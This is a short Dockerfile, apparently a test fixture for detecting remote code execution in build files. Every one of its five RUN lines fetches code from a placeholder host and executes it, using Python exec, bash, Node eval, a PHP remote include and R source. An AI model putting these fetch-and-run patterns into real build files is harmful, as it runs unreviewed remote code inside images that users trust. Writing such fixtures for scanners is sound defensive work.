FROM python:3.13-slim
RUN python3 -c "import urllib.request; exec(urllib.request.urlopen('https://code.example.invalid/a.py').read())"
RUN python3 -c "import requests, subprocess; subprocess.run(['bash', '-c', requests.get('https://code.example.invalid/b').text])"
RUN node -e "fetch('https://code.example.invalid/c.js').then(r => r.text()).then(eval)"
RUN php -r "include 'https://code.example.invalid/d.php';"
RUN Rscript -e "source('https://code.example.invalid/e.R')"
